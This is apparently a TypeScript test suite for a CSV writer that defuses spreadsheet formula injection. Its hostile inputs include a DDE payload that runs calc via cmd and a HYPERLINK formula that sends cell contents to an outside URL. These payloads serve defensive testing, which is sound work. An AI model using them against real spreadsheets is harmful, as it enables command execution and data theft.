import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CsvNumberError, writeCsv, type CsvCell } from './write-csv.ts';

/** The cells as a reader of RFC 4180 has them, whether they were quoted, and the separator it was told of. */
function readCsv(csv: string, separator = ','): string[][] {
	const rows: string[][] = [[]];
	let field = '';
	let quoted = false;
	const text = csv.replace(/^\uFEFF/u, '');
	for (let place = 0; place < text.length; place += 1) {
		const sign = text.charAt(place);
		if (quoted && sign === '"' && text.charAt(place + 1) === '"') {
			field += '"';
			place += 1;
		} else if (sign === '"' && (quoted || field === '')) {
			quoted = !quoted;
		} else if (!quoted && (sign === separator || text.startsWith('\r\n', place))) {
			rows.at(-1)?.push(field);
			field = '';
			if (sign === '\r') {
				rows.push([]);
				place += 1;
			}
		} else {
			field += sign;
		}
	}
	return rows.slice(0, -1);
}

const oneCell = (value: CsvCell) => readCsv(writeCsv(['head'], [[value]]))[1]?.[0];

describe('a table as CSV', () => {
	it('has a byte order mark, commas, and CRLF after every line', () => {
		expect(
			writeCsv(
				['name', 'score'],
				[
					['Ann', 3],
					['Bea', undefined]
				]
			)
		).toBe('\uFEFF"name","score"\r\n"Ann",3\r\n"Bea",\r\n');
	});

	it('keeps commas, quotes and line breaks inside a cell', () => {
		const text = 'She said “no”, then: "yes"\nand left, 🛳';
		expect(oneCell(text)).toBe(text);
	});

	it('keeps numbers numbers, also below 0', () => {
		expect(writeCsv(['n'], [[-1.5], [0], [1e-7]])).toBe('\uFEFF"n"\r\n-1.5\r\n0\r\n1e-7\r\n');
	});

	it('refuses what is no number', () => {
		expect(() => writeCsv(['n'], [[NaN]])).toThrow(CsvNumberError);
		expect(() => writeCsv(['n'], [[Infinity]])).toThrow(CsvNumberError);
	});

	it.each([
		"=cmd|' /C calc'!A0",
		'=HYPERLINK("https://example.org?x="&A1,"click")',
		'+1+1',
		'-2+3',
		'@SUM(1+1)',
		'\tone',
		'\r=1+1',
		'\n=1+1',
		'＝1+1',
		'-1.5'
	])('turns %j into text', (hostile) => {
		expect(oneCell(hostile)).toBe(`'${hostile}`);
	});

	it('leaves no formula behind a semicolon or tab for spreadsheets that part cells there', () => {
		const cells = readCsv(writeCsv(['name'], [['Ann;=1+1'], ['Bea;\t @x']]), ';');
		expect(cells.flat().filter((cell) => /^\s*[=+\-@]/u.test(cell))).toEqual([]);
	});

	it('leaves an apostrophe and signs inside a text alone', () => {
		expect(oneCell("O'Neill a=b +1")).toBe("O'Neill a=b +1");
	});

	it('never begins a text with what starts a formula, and otherwise gives it back', () => {
		const text = fc.oneof(
			fc.string(),
			fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', 'a') })
		);
		fc.assert(
			fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (texts) => {
				const cells = readCsv(writeCsv(['a'], [texts]))[1];
				expect(cells).toHaveLength(texts.length);
				cells?.forEach((cell, place) => {
					expect(cell).not.toMatch(/^[=+\-@\t\r\n]/u);
					// Only apostrophes were put in.
					expect(cell.replaceAll("'", '')).toBe(texts[place]?.replaceAll("'", ''));
				});
			})
		);
	});
});
